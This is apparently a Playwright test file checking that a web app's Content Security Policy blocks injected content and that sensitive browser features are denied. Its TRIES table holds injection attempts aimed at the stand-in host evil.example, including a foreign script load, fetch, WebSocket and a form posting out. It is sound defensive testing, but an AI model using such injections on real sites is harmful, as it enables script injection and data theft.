"""The policy of the page, in a real Chromium: the page itself breaks none of it, and what others bring in is stopped."""

from collections.abc import Iterator

import pytest
from browser_fixtures import FLAGSHIP, ask
from playwright.sync_api import BrowserContext, Page, expect

LISTEN = """
window.broken = [];
document.addEventListener("securitypolicyviolation", (event) =>
  broken.push(`${event.effectiveDirective} ${event.blockedURI}`));
"""
FIRST = """() => new Promise((done) => {
  const look = (left) => (broken.length || !left ? done(broken[0]) : setTimeout(look, 20, left - 1));
  look(200);
})"""
# Name of what is tried, and what the policy says of it.
TRIES = {
    "an inline script": (
        "document.head.append(Object.assign(document.createElement('script'), { textContent: '1' }))",
        "script-src-elem inline",
    ),
    "a foreign script": (
        "document.head.append(Object.assign(document.createElement('script'), { src: 'http://evil.example/a' }))",
        "script-src-elem http://evil.example/a",
    ),
    "text as a script": ("setTimeout(() => eval('1'))", "script-src eval"),
    "a handler": ("document.body.setAttribute('onclick', '1')", "script-src-attr inline"),
    "a foreign image": ("new Image().src = 'http://evil.example/b'", "img-src http://evil.example/b"),
    "a foreign request": (
        "fetch('http://evil.example/c').catch(() => 0)",
        "connect-src http://evil.example/c",
    ),
    "a foreign socket": (
        "try { new WebSocket('ws://evil.example/d') } catch {}",
        "connect-src ws://evil.example/d",
    ),
    "a foreign style": (
        (
            "const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'http://evil.example/e' });"
            "document.head.append(link)"
        ),
        "style-src-elem http://evil.example/e",
    ),
    "a foreign frame": (
        "document.body.append(Object.assign(document.createElement('iframe'), { src: 'http://evil.example/f' }))",
        "frame-src http://evil.example",
    ),
    "a foreign object": (
        "document.body.append(Object.assign(document.createElement('object'), { data: 'http://evil.example/g' }))",
        "object-src http://evil.example",
    ),
    "a film": ("document.createElement('video').src = '/h'", "media-src {address}/h"),
    "another base": (
        "document.head.prepend(Object.assign(document.createElement('base'), { href: 'http://evil.example/' }))",
        "base-uri http://evil.example/",
    ),
    "a foreign form": (
        (
            "const form = Object.assign(document.createElement('form'), { action: 'http://evil.example/i' });"
            " document.body.append(form); form.submit()"
        ),
        "form-action http://evil.example/i?",
    ),
}


@pytest.fixture
def watched(browser: BrowserContext, address: str) -> Iterator[Page]:
    """A page that notes what breaks its policy."""
    page = browser.new_page()
    page.add_init_script(LISTEN)
    page.goto(address)
    yield page
    page.close()


def test_a_tour_of_the_page_breaks_nothing_of_its_policy(watched: Page) -> None:
    ask(watched, FLAGSHIP)
    article = watched.get_by_role("article")
    expect(article).to_be_visible()
    article.locator("details > summary:visible").first.click()
    article.locator("a.term").first.click()
    ask(watched, "en een andere toepassing in Duitsland?")
    watched.get_by_role("button", name="Gebruik de eerdere feiten toch").click()
    expect(watched.locator(".facts").first).to_contain_text("gezondheidsgegevens")
    watched.get_by_label("English").check()
    expect(watched.get_by_role("button", name="Ask the question")).to_be_visible()
    ask(watched, "", "Your question")
    expect(watched.get_by_role("alert")).to_be_visible()
    watched.get_by_role("button", name="Start a new case").click()
    expect(article).to_have_count(0)
    watched.emulate_media(media="print", color_scheme="dark")
    watched.emulate_media(media="screen", color_scheme="light")
    watched.set_viewport_size({"width": 320, "height": 600})
    assert watched.evaluate("broken") == []


@pytest.mark.parametrize("tried", TRIES)
def test_what_is_brought_in_is_stopped(watched: Page, address: str, tried: str) -> None:
    act, said = TRIES[tried]
    watched.evaluate(f"() => {{ {act} }}")
    assert watched.evaluate(FIRST) == said.format(address=address)


def test_what_a_browser_can_do_for_a_page_is_denied_but_for_copying(watched: Page) -> None:
    allowed = watched.evaluate("document.featurePolicy.allowedFeatures()")
    feared = {
        "camera",
        "microphone",
        "geolocation",
        "payment",
        "usb",
        "serial",
        "hid",
        "midi",
        "display-capture",
        "clipboard-read",
        "fullscreen",
        "autoplay",
        "local-fonts",
        "idle-detection",
        "storage-access",
        "publickey-credentials-get",
        "screen-wake-lock",
        "window-management",
        "xr-spatial-tracking",
    }
    assert feared & set(allowed) == set()
    assert "clipboard-write" in allowed
